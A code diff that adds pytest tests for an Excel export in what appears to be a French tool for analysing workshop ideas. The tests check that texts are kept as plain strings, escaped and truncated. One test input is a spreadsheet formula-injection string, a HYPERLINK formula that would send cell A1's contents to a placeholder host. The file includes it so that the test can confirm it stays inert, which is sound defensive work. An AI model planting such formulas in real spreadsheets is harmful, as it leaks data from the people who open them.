@@ -7,6 +7,7 @@ import dataclasses
 import json
 from datetime import datetime
 
+import openpyxl
 import pandas as pd
 import pytest
 
@@ -355,6 +356,62 @@ def test_unclassified_ideas_get_their_own_section(documents, workshop):
     )
     assert "Sans axe" in html and "(2 fois)" in html
     assert html.count("Idée sans axe") == 2  # under "Sans axe" and among ideas to check
+
+
+def test_workbook_keeps_every_text_as_text(records, tmp_path):
+    # Post-its and report lines that Excel would read as formulas, links or numbers; a text too
+    # long for a cell; a control character.
+    texts = [
+        "= Développer la création de projets par les habitants",
+        "- travailler avec les services de la CUGT",
+        "+33 5 61 00 00 00",
+        '=HYPERLINK("http://exemple.invalid/?"&A1;"voir")',
+        "@mairie",
+        "https://exemple.invalid/atelier",
+        "0031",
+        "Fin de ligne\x01 de contrôle",
+        "x" * 40_000,
+    ]
+    ideas = [dataclasses.replace(records[0], idea_id=f"abababababab-{n:04d}", text=t) for n, t in enumerate(texts, 10)]
+    path = outputs.write_run_workbook([*records, *ideas], summarize_clusters(records), tmp_path)
+    assert path == tmp_path / "ideas.xlsx"
+
+    workbook = openpyxl.load_workbook(path)
+    assert workbook.sheetnames == ["Idées", "Groupes", "Détails"]
+    sheet = workbook["Idées"]
+    header = [cell.value for cell in sheet[1]]
+    assert header == list(outputs.ideas_frame(records).columns)
+    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:Y{len(records) + len(texts) + 1}"
+    text_cells = [row[header.index("text")] for row in sheet.iter_rows(min_row=2)]
+    assert all(cell.data_type == "s" for cell in text_cells)
+    written = [cell.value for cell in text_cells]
+    assert written[: len(records)] == [c.text for c in records]
+    assert written[len(records) : -2] == texts[:-2]
+    assert written[-2] == "Fin de ligne_x0001_ de contrôle"  # the OOXML escape, which Excel shows as the character
+    assert len(written[-1]) == outputs.EXCEL_MAX_CELL_CHARACTERS and written[-1].endswith("x…")
+    first = {name: cell.value for name, cell in zip(header, sheet[2], strict=True)}
+    assert first["page"] == 2 and first["axis_confidence"] == 0.42 and first["canonical"] is True
+    assert first["stated_axis"] is None and first["x0"] == 10.0
+
+    groups = workbook["Groupes"]
+    assert [cell.value for cell in groups[1]] == list(outputs.CLUSTER_COLUMNS)
+    canonical = [summary.canonical_text for summary in summarize_clusters(records)]
+    assert [row[1].value for row in groups.iter_rows(min_row=2)] == canonical
+    details = workbook["Détails"]
+    assert [[cell.value for cell in row] for row in details.iter_rows()] == [
+        ["idea_id", "field", "text"],
+        ["abababababab-0003", "Freins", "Manque de financement"],
+        ["abababababab-0003", "Partenaires", "Mission locale, Pôle emploi"],
+    ]
+
+
+def test_workbook_refuses_a_table_longer_than_a_sheet(records, tmp_path):
+    sheets = {"Idées": outputs.ideas_frame(records)}
+    with pytest.raises(outputs.WorkbookTooLarge, match="3 lignes dans « Idées »"):
+        outputs.write_workbook(sheets, tmp_path / "ideas.xlsx", max_rows=3)
+    assert not list(tmp_path.iterdir())
+    outputs.write_workbook(sheets, tmp_path / "ideas.xlsx", max_rows=4)
+    assert openpyxl.load_workbook(tmp_path / "ideas.xlsx")["Idées"].max_row == 4
 
 
 def test_write_run_outputs_writes_every_file_but_the_manifest(records, documents, workshop, tmp_path):
